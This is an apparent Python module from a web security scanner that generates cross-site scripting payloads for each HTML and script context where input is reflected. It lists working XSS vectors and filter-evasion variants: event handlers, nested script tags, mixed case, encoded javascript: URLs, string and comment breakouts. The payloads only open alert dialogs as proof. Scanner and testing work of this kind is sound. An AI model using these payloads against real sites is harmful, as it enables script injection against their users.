"""The payloads that could run at one occurrence, shortest and surest first.

Each is a way out of where the value stands, a vehicle that brings script, and a call. Nothing here is sent that does
more than open a dialog box in the browser of whoever follows the proof.
"""

from __future__ import annotations

from collections.abc import Iterator

import msgspec

from securestack.probing.html_context import Context, Occurrence
from securestack.probing.html_meaning import Meaning
from securestack.probing.html_tokens import RAWTEXT_ELEMENTS, RCDATA_ELEMENTS
from securestack.probing.xss_filter import features
from securestack.probing.xss_script import Place, Spot, pieces

MARK = "\ue000"  # stands for the number that tells this attempt's call from every other
_HOLDS_TEXT = RCDATA_ELEMENTS | RAWTEXT_ELEMENTS | {"script"}

_CALLS = (f"alert({MARK})", f"alert`{MARK}`", f"confirm({MARK})", f"prompt({MARK})")
_THROW = f"onerror=alert;throw+{MARK}"
# Only where character references are decoded before the script is read.
_REFERENCE_CALLS = (
    f"alert&#40;{MARK}&#41;",
    f"&#97;&#108;&#101;&#114;&#116;({MARK})",
    f"&#97;&#108;&#101;&#114;&#116;&#40;{MARK}&#41;",
)
_ATTRIBUTE_CALLS = (*_CALLS, _THROW, *_REFERENCE_CALLS)
# With what each costs: what filters differ on comes early, variants of the same late.
_HANDLER_MARKUP = (
    ("<svg onload={}>", 0),
    ("<svg onload={} //", 3),
    ("<svg/onload={}>", 5),
    ("<img src=x onerror={}>", 7),
    ("<sVg OnLoAd={}>", 9),
    ("<svg\nonload={}\n>", 11),
    ("<svg\tonload={}>", 13),
    ("<svg\fonload={}>", 14),
    ("<details open ontoggle={}>", 19),
    ("<body onpageshow={}>", 21),
    ("<iframe onload={}>", 23),
)
_SCRIPT_MARKUP = (
    ("<script>{}</script>", 2),
    ("<ScRiPt>{}</sCrIpT>", 5),
    ("<scr<script>ipt>{}</scr</script>ipt>", 8),
    ("<script >{}</script >", 11),
)
_ADDRESS_MARKUP = ("<a href=javascript:{}>x</a>", "<iframe src=javascript:{}>")
_VB_CALL = f"MsgBox({MARK})"


class Payload(msgspec.Struct, frozen=True):
    """A value to send. Its `cost` orders payloads; `needs` are the characters and words that must come through.

    `inner` says that they are needed in the decoded text of an attribute, not in the page's own. `escapes` names the
    quote whose escaping by the server the payload turns against it. Payloads of one `family` fail together where they
    come through whole and do not run.
    """

    template: str
    cost: int
    inner: bool = False
    needs: frozenset[str] = frozenset()
    escapes: str = ""
    padded: bool = False
    family: str = "inside"

    @property
    def is_nested(self) -> bool:
        """Whether a tag is split around another, so that a filter which removes that one puts it together."""
        return "<scr<script>" in self.template

    def value(self, marker: str) -> str:
        """Return what to send, with this attempt's number in it."""
        return self.template.replace(MARK, marker)


def payloads_for(occurrence: Occurrence) -> Iterator[Payload]:
    """Yield what could run at an occurrence, in no particular order."""
    closers = "".join(f"</{name}>" for name in occurrence.closers)
    match occurrence.context:
        case Context.TEXT | Context.CDATA:
            yield from _markup(("]]>" if occurrence.context is Context.CDATA else "") + closers)
        case Context.COMMENT:
            yield from _markup(f"-->{closers}")
        case Context.DOCTYPE | Context.END_TAG:
            yield from _markup(f">{closers}")
        case Context.RCDATA | Context.RAWTEXT:
            yield from _markup(f"</{occurrence.tag}>{closers}")
        case Context.SCRIPT:
            yield from _script(occurrence, closers)
        case Context.TAG_NAME:
            yield from _tag_name(occurrence, closers)
        case Context.ATTRIBUTE_NAME:
            yield from _new_attribute(occurrence, "", "x=")
            yield from _markup(f">{_text_end(occurrence)}{closers}", 20)
        case Context.ATTRIBUTE_VALUE:
            yield from _attribute_value(occurrence, closers)
        case _:
            return


def _payload(
    template: str,
    cost: int,
    *,
    inner: bool = False,
    needs: str | None = None,
    escapes: str = "",
    family: str = "inside",
) -> Payload:
    needed = features(template if needs is None else needs)
    return Payload(template, cost, inner, needed, escapes, family=family)


def _markup(before: str, cost: int = 0) -> Iterator[Payload]:
    """Yield new elements, behind what leaves the present one."""
    for call_cost, call in enumerate(_ATTRIBUTE_CALLS):
        for vehicle, vehicle_cost in _HANDLER_MARKUP:
            total = cost + vehicle_cost + 4 * call_cost
            yield _payload(before + vehicle.format(call), total, family="handler")
        for vehicle in _ADDRESS_MARKUP:
            yield _payload(before + vehicle.format(call), cost + 24 + 4 * call_cost, family="address")
    for call_cost, call in enumerate((*_CALLS, _THROW)):
        for vehicle, vehicle_cost in _SCRIPT_MARKUP:
            total = cost + vehicle_cost + 4 * call_cost
            yield _payload(before + vehicle.format(call), total, family="script")


def _text_end(occurrence: Occurrence) -> str:
    """Return what ends the raw text that begins where this tag ends."""
    return f"</{occurrence.tag}>" if occurrence.tag in _HOLDS_TEXT and not occurrence.foreign else ""


def _events(occurrence: Occurrence) -> list[str]:
    """Return attributes that would run script on this very element, surest first; empty where none would."""
    tag = occurrence.tag
    if tag == "script":
        return ["onerror={0} onload={0}"] if _has_source(occurrence) else ["src=data:,{}"]
    if tag in ("base", "head", "meta", "noscript", "param", "template", "title"):
        return []
    if tag in ("style", "link"):
        return ["onload={}"]
    if tag in ("body", "iframe", "frame", "frameset", "svg"):
        return ["onload={}", "onpageshow={}"]
    if tag in ("img", "video", "audio", "object", "embed") and occurrence.attribute in ("src", "data"):
        return ["onerror={}", "onfocus={} autofocus tabindex=1", "OnErRoR={}"]
    if tag == "input" and occurrence.sibling("type") == "hidden":
        return ["oncontentvisibilityautostatechange={} style=content-visibility:auto"]
    return ["onfocus={} autofocus tabindex=1", "onmouseover={}", "OnFoCuS={} autofocus tabindex=1"]


def _has_source(occurrence: Occurrence) -> bool:
    return occurrence.attribute == "src" or any(name == "src" for name, _ in occurrence.siblings)


def _new_attribute(occurrence: Occurrence, before: str, after: str, cost: int = 0) -> Iterator[Payload]:
    """Yield further attributes for the same tag, behind what leaves the present one."""
    for event_cost, event in enumerate(_events(occurrence)):
        for call_cost, call in enumerate(_ATTRIBUTE_CALLS):
            total = cost + 3 * event_cost + 4 * call_cost
            text = event.format(call)
            family = f"attribute {event_cost}"
            yield _payload(f"{before} {text} {after}".lstrip(), total, family=family)
            for space_cost, space in enumerate("/\n\t\f"):
                if space == "/" and not (before and before[-1] in "'\""):
                    continue
                spaced = (
                    f"{before}{space}{event.split()[0].format(call)}{space if space != '/' else ' '}{after}"
                )
                if space == "/":
                    quote = before[-1]
                    name = event.split("=", 1)[0]
                    spaced = f"{before}/autofocus/tabindex={quote}1{quote}{name}={quote}{call}"
                yield _payload(spaced, total + 5 + space_cost, family=family)


def _tag_name(occurrence: Occurrence, closers: str) -> Iterator[Payload]:
    at_start = not occurrence.before.strip("<")
    if at_start:
        for cost, tag in enumerate(
            ("svg onload={} ", "svg/onload={}/", "img src=x onerror={} ", "sVg OnLoAd={} ")
        ):
            for call_cost, call in enumerate(_ATTRIBUTE_CALLS):
                yield _payload(tag.format(call), 3 * cost + 4 * call_cost, family=f"tag {cost}")
    yield from _new_attribute(occurrence, "x", "x=", 3)
    yield from _markup(f"x>{closers}", 20)


def _attribute_value(occurrence: Occurrence, closers: str) -> Iterator[Payload]:
    quote = occurrence.quote
    leave = quote or "x"
    yield from _inside_value(occurrence)
    yield from _new_attribute(occurrence, leave, f"x={quote}", 6)
    yield from _markup(f"{leave}>{_text_end(occurrence)}{closers}", 8)


def _inside_value(occurrence: Occurrence) -> Iterator[Payload]:
    """Yield what runs without leaving the attribute."""
    match occurrence.meaning:
        case Meaning.JAVASCRIPT if occurrence.place:
            for payload in _javascript(occurrence.place, occurrence.after, _CALLS):
                yield payload
                yield from _referenced(payload, occurrence)
        case Meaning.VBSCRIPT if occurrence.place:
            yield from _vbscript(occurrence.place)
        case Meaning.ADDRESS_START:
            yield from _address(occurrence)
        case Meaning.DOCUMENT:
            for nested in occurrence.nested:
                for payload in payloads_for(nested):
                    plain = msgspec.structs.replace(payload, inner=True)
                    yield plain
                    yield from _referenced(plain, occurrence)
        case _:
            return


_REFERENCES = {"'": "&#39;", '"': "&#34;", "<": "&lt;", ">": "&gt;", "`": "&#96;", "(": "&#40;", ")": "&#41;"}


def _referenced(payload: Payload, occurrence: Occurrence) -> Iterator[Payload]:
    """Yield the payload spelled with character references, which an attribute decodes."""
    spelled = "".join(_REFERENCES.get(char, char) for char in payload.template)
    if spelled != payload.template:
        yield Payload(spelled, payload.cost + 3, False, features(spelled))
    if occurrence.attribute in ("href", "src", "action", "formaction"):
        percent = "".join(f"%{ord(char):02x}" if char in _REFERENCES else char for char in payload.template)
        yield Payload(percent, payload.cost + 5, True, features(percent))


def _address(occurrence: Occurrence) -> Iterator[Payload]:
    if occurrence.tag == "script":
        for cost, call in enumerate(_CALLS):
            yield _payload(f"data:,{call}", cost, inner=True)
        return
    if occurrence.tag in ("img", "image", "link", "base", "use"):
        return
    for call_cost, call in enumerate((*_CALLS, _THROW)):
        for cost, scheme in enumerate(
            ("javascript:", "JaVaScRiPt:", "java\tscript:", "&#106;avascript&colon;", "javascript://%0a")
        ):
            yield _payload(scheme + call, 2 * cost + 3 * call_cost, inner=True)


def _script(occurrence: Occurrence, closers: str) -> Iterator[Payload]:
    if occurrence.meaning is Meaning.JAVASCRIPT and occurrence.place:
        yield from _javascript(occurrence.place, occurrence.after, _CALLS)
    elif occurrence.meaning is Meaning.VBSCRIPT and occurrence.place:
        yield from _vbscript(occurrence.place)
    yield from _markup(f"</script>{closers}", 6)


def _javascript(place: Place, after: str, calls: tuple[str, ...]) -> Iterator[Payload]:
    for call_cost, call in enumerate(calls):
        for cost, (text, escapes) in enumerate(_breaks(place, after, call)):
            needs = text.replace("\\", "") if escapes else text
            total = 2 * cost + 3 * call_cost
            yield _payload(text, total, inner=True, needs=needs, escapes=escapes, family=f"inside {cost}")
    if place.spot in (Spot.SINGLE, Spot.DOUBLE) and not place.brackets:
        quote = "'" if place.spot is Spot.SINGLE else '"'
        yield _payload(f"{quote};{_THROW}//", 12, inner=True)
    elif place.spot is Spot.CODE and not place.brackets:
        yield _payload(f"1;{_THROW}//", 12, inner=True)


def _breaks(place: Place, after: str, call: str) -> Iterator[tuple[str, str]]:
    """Yield code that leaves a place, calls and returns to it; and the quote whose escaping it turns round."""
    match place.spot:
        case Spot.SINGLE | Spot.DOUBLE:
            quote = "'" if place.spot is Spot.SINGLE else '"'
            yield f"{quote}-{call}-{quote}", ""
            yield f"{quote}*{call}*{quote}", ""
            yield f"\\{quote}{_closing(after, quote)}-{call}//", quote
        case Spot.TEMPLATE:
            yield f"${{{call}}}", ""
            yield f"`-{call}-`", ""
        case Spot.REGEX:
            yield f"x/-{call}-/x", ""
        case Spot.LINE_COMMENT:
            for newline in "\n\r\u2028":
                yield f"{newline}{call}//", ""
        case Spot.BLOCK_COMMENT:
            yield f"*/{call}/*", ""
            yield f"*/{call},/*", ""
            yield f"*/;{call};/*", ""
        case Spot.CODE:
            yield _in_code(place, after, call), ""


def _in_code(place: Place, after: str, call: str) -> str:
    follows = after.lstrip(" \t'\"<&`").lstrip()[:1]
    match place.previous:
        case "var" | "let" | "const":
            return f"a={call},b"
        case "function" | "class":
            return f"a(){{}};{call};function a"
        case ".":
            return f"a,{call},a" if follows == "=" else f"a-{call}"
        case "{" | "," if follows == ":":
            return f"[{call}]"
        case _:
            return call


def _closing(after: str, quote: str) -> str:
    """Return the brackets that the rest of the line closes or opens: a comment will hide them."""
    line = after.split("\n", 1)[0]
    rest = line[line.rfind("&`") + 2 :] if "&`" in line else line
    brackets = ""
    for piece in pieces(
        quote + rest if not rest.startswith(quote) else "'" + rest if quote == "'" else '"' + rest
    ):
        if piece.spot is Spot.CODE and piece.text in "()[]{}" and len(piece.text) == 1:
            if brackets and brackets[-1] + piece.text in ("()", "[]", "{}"):
                brackets = brackets[:-1]
            else:
                brackets += piece.text
    return brackets


def _vbscript(place: Place) -> Iterator[Payload]:
    match place.spot:
        case Spot.DOUBLE:
            yield _payload(f'"&{_VB_CALL}&"', 0, inner=True)
        case Spot.LINE_COMMENT:
            yield _payload(f"\n{_VB_CALL}'", 0, inner=True)
            yield _payload(f"\n{_VB_CALL}:Rem ", 1, inner=True)
        case _:
            yield _payload(_VB_CALL, 0, inner=True)
